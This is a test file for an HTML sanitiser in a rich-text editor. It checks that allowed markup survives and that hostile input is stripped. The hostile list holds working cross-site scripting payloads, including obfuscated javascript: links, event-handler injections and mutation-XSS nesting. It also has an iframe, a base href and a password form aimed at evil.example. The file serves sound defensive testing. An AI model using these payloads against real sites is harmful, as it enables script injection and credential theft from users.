import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitiseRichText } from './rich-text.ts';

describe('what the editor makes', () => {
  test.each([
    '<h2>Title</h2><p>Text <strong>bold</strong> <em>em</em> <u>under</u> <s>gone</s> <code>x</code></p>',
    '<h3>A</h3><h4>B</h4><ul><li><p>one</p></li></ul><ol start="3"><li><p>three</p></li></ol>',
    '<blockquote><p>Quote</p></blockquote><hr /><p>line<br />break</p>',
    '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">link</a></p>',
    '<p><a href="mailto:ana@example.org" rel="noopener noreferrer" target="_blank">mail</a></p>',
    '<img src="/api/files/ab12cd34.png" alt="The new berth" />',
    '<p>1 &lt; 2 &amp; 3 — naïve “quotes” 😀</p>',
  ])('stays as it is: %s', (html) => {
    expect(sanitiseRichText(html)).toBe(html);
  });

  test('pasted bold and italic become the marks the editor knows', () => {
    expect(sanitiseRichText('<b>a</b><i>b</i><del>c</del>')).toBe('<strong>a</strong><em>b</em><s>c</s>');
  });

  test('a link cannot reach back to the page that opened it', () => {
    expect(sanitiseRichText('<a href="https://example.org" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://example.org" rel="noopener noreferrer" target="_blank">x</a>',
    );
  });
});

const hostile: readonly [string, string][] = [
  ['<script>alert(1)</script>', ''],
  ['<p onclick="alert(1)">x</p>', '<p>x</p>'],
  ['<img src=x onerror=alert(1)>', ''],
  ['<img src="https://tracker.example/p.gif">', ''],
  ['<img src="//tracker.example/p.gif">', ''],
  ['<img src="/api/files/../session">', ''],
  ['<img src="/api/files/%2e%2e/session">', ''],
  ['<img src="/api/filesystem/x">', ''],
  ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', ''],
  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="JaVaScRiPt:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="java&#x0A;script:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="&#106;avascript&colon;alert(1)">x</a>', '<a>x</a>'],
  ['<a href="\u0001javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
  ['<a href="vbscript:x">x</a>', '<a>x</a>'],
  ['<a href="//evil.example">x</a>', '<a>x</a>'],
  ['<a href="/api/session/end">x</a>', '<a>x</a>'],
  ['<svg><script>alert(1)</script></svg>', ''],
  ['<svg onload=alert(1)>', ''],
  ['<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>', ''],
  ['<style>body{display:none}</style>', ''],
  ['<p style="position:fixed">x</p>', '<p>x</p>'],
  ['<p class="modal" id="root" data-x="1">x</p>', '<p>x</p>'],
  ['<iframe src="https://evil.example"></iframe>', ''],
  ['<object data="x"></object><embed src="x">', ''],
  ['<form action="https://evil.example"><input name=password></form>', ''],
  ['<base href="https://evil.example">', ''],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', ''],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
  ['<<script>alert(1)//<</script>', '&lt;'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<p></p>'],
  ['<template><script>alert(1)</script></template>', ''],
  ['<!--<img src="--><img src=x onerror=alert(1)//">', ''],
  ['<textarea><script>alert(1)</script></textarea>', ''],
];

const value = '[^"<>]*';
const allowedTag = new RegExp(
  [
    '</?(p|h2|h3|h4|ul|ol|li|strong|em|u|s|a|blockquote|code)>',
    '<(hr|br) />',
    '<ol start="\\d+">',
    `<a href="(https?:|mailto:)${value}" rel="noopener noreferrer" target="_blank">`,
    `<img( alt="${value}")? src="/api/files/${value}"( alt="${value}")? />`,
  ].join('|'),
  'gi',
);

/** The rest once every permitted tag, in its one exact spelling, is removed. It must not open anything. */
function openedBesidesAllowedTags(html: string): string[] {
  return html.replaceAll(allowedTag, '').match(/<.{0,40}/gs) ?? [];
}

describe('what an attacker makes', () => {
  test.each(hostile)('%s is harmless', (html, expected) => {
    const clean = sanitiseRichText(html);
    expect(openedBesidesAllowedTags(clean)).toEqual([]);
    expect(clean).toBe(expected);
  });

  const piece = fc.oneof(
    fc.constantFrom(...hostile.map(([html]) => html)),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '<p',
      '</p>',
      '<a href=',
      'javascript:',
      ' onload=',
      '<!--',
      '-->',
      '<![CDATA[',
      '\0',
      '&lt;script&gt;',
      '<img ',
      'src=',
    ),
    fc.string({ maxLength: 8 }),
  );

  test('no way of putting such pieces together gets anything through', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(openedBesidesAllowedTags(sanitiseRichText(pieces.join('')))).toEqual([]);
      }),
      { numRuns: 1_500 },
    );
  });

  test('cleaning what is clean changes nothing', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = sanitiseRichText(pieces.join(''));
        expect(sanitiseRichText(once)).toBe(once);
      }),
      { numRuns: 500 },
    );
  });

  test('nesting without end is cut off', () => {
    const deep = sanitiseRichText('<blockquote>'.repeat(5_000));
    expect(deep.split('<blockquote>').length - 1).toBeLessThanOrEqual(40);
  });
});
